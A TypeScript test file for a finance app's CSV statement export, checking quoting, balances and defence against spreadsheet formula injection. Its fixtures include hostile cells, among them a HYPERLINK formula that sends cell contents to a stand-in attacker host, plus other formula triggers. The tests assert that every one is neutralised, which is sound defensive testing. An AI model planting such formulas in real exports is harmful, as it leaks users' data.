/**
 * Statement CSV: RFC 4180 quoting, formula injection neutralised in text cells (OWASP CSV
 * Injection, ASVS 5.0 1.2.10) while amounts stay numeric, the BOM, CRLF, and the balances rows.
 */
import assert from "node:assert/strict";
import { test } from "node:test";
import { BYTE_ORDER_MARK, csvAmount, csvText, statementCsv } from "../../lib/finance/statement-csv";
import type { Statement } from "../../lib/data/types";

/** A minimal RFC 4180 reader: what a spreadsheet's importer sees cell by cell. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = "";
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") endCell();
    else if (c === "\r" && text[i + 1] === "\n") {
      endCell();
      rows.push(row);
      row = [];
      i++;
    } else cell += c;
  }
  if (cell !== "" || row.length > 0) {
    endCell();
    rows.push(row);
  }
  return rows;
}

/** Cells a spreadsheet would run as a formula: starts with a trigger after optional whitespace, or with a control character. */
const looksLikeFormula = (cell: string) => /^\s*[=+\-@]/.test(cell) || /^[\t\r\n\0]/.test(cell);

const HOSTILE: Array<[string, string]> = [
  ['=HYPERLINK("https://evil.example/?"&A1,"Refund")', `'=HYPERLINK("https://evil.example/?"&A1,"Refund")`],
  ["+1", "'+1"],
  ["-1+2", "'-1+2"],
  ["-12.50", "'-12.50"],
  ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
  ["\t=1+2", "'\t=1+2"],
  ["\r=1+2", "'\r=1+2"],
  ["\n@cmd", "'\n@cmd"],
  ["  =1+2", "'  =1+2"],
  ["＝1+2", "'＝1+2"],
  ['Say "hi", then leave', 'Say "hi", then leave'],
  ["Line one\r\nline two", "Line one\r\nline two"],
  ["a,b;=c", "a,b;=c"],
  ["Café •••• 4821", "Café •••• 4821"],
  ["", ""],
];

test("text cells: quoted, quotes doubled, formula triggers prefixed with a quote, other text untouched", () => {
  for (const [input, expectedCell] of HOSTILE) {
    const encoded = csvText(input);
    assert.ok(encoded.startsWith('"') && encoded.endsWith('"'), `always quoted: ${JSON.stringify(input)}`);
    const [[cell]] = parseCsv(`${encoded}\r\n`) as [[string]];
    assert.equal(cell, expectedCell, JSON.stringify(input));
    assert.ok(!looksLikeFormula(cell), `neutralised: ${JSON.stringify(cell)}`);
  }
});

test("amount cells are plain decimals from minor units: negatives stay numbers, nothing is quoted or prefixed", () => {
  assert.equal(csvAmount(-1250n, "USD"), "-12.50");
  assert.equal(csvAmount("123456", "USD"), "1234.56");
  assert.equal(csvAmount(-5n, "USD"), "-0.05");
  assert.equal(csvAmount(1500n, "JPY"), "1500");
  assert.equal(csvAmount(1234n, "BHD"), "1.234");
});

const statement: Statement = {
  account: { id: "acct_1", name: "Everyday Checking", kind: "checking", currency: "USD", maskedNumber: "•••• 4821" },
  month: "2026-10",
  periodStart: new Date("2026-10-01T00:00:00Z"),
  periodEnd: new Date("2026-10-31T00:00:00Z"),
  toDate: false,
  openingBalanceMinor: "100000",
  closingBalanceMinor: "98525",
  totalInMinor: "250",
  totalOutMinor: "1725",
  entries: [
    { id: "le_1", bookedAt: new Date("2026-10-03T09:00:00Z"), description: '=HYPERLINK("https://evil.example","Click")', counterparty: "@attacker", category: "shopping", amountMinor: "-1725", balanceMinor: "98275" },
    { id: "le_2", bookedAt: new Date("2026-10-04T09:00:00Z"), description: "Refund, \"partial\"\nsee note", counterparty: null, category: "refund", amountMinor: "250", balanceMinor: "98525" },
  ],
};

test("a statement: BOM, CRLF, header row, opening row, entries, closing row; every text cell safe, amounts numeric", () => {
  const csv = statementCsv(statement);
  assert.ok(csv.startsWith(BYTE_ORDER_MARK));
  assert.ok(csv.endsWith("\r\n"));
  const rows = parseCsv(csv.slice(1));
  assert.deepEqual(rows[0], ["Date", "Description", "Counterparty", "Category", "Amount", "Balance", "Currency", "Transaction ID"]);
  assert.deepEqual(rows[1], ["2026-10-01", "Opening balance", "", "", "", "1000.00", "USD", ""]);
  assert.deepEqual(rows[2], ["2026-10-03", `'=HYPERLINK("https://evil.example","Click")`, "'@attacker", "shopping", "-17.25", "982.75", "USD", "le_1"]);
  assert.deepEqual(rows[3], ["2026-10-04", 'Refund, "partial"\nsee note', "", "refund", "2.50", "985.25", "USD", "le_2"]);
  assert.deepEqual(rows[4], ["2026-10-31", "Closing balance", "", "", "", "985.25", "USD", ""]);
  assert.equal(rows.length, 5);
  for (const row of rows) {
    assert.equal(row.length, 8, "rectangular");
    for (const [index, cell] of row.entries()) {
      // Amount and Balance may be negative numbers; every other cell must not look like a formula.
      if (index === 4 || index === 5) assert.match(cell, /^(-?\d+\.\d{2}|Amount|Balance|)$/);
      else assert.ok(!looksLikeFormula(cell), `row ${rows.indexOf(row)} cell ${index}: ${JSON.stringify(cell)}`);
    }
  }
  // Opening + entries = closing, read back from the file itself.
  const cents = (cell: string) => BigInt(cell.replace(".", ""));
  const sum = rows.slice(2, -1).reduce((total, row) => total + cents(row[4]!), 0n);
  assert.equal(cents(rows[1]![5]!) + sum, cents(rows[4]![5]!));
});
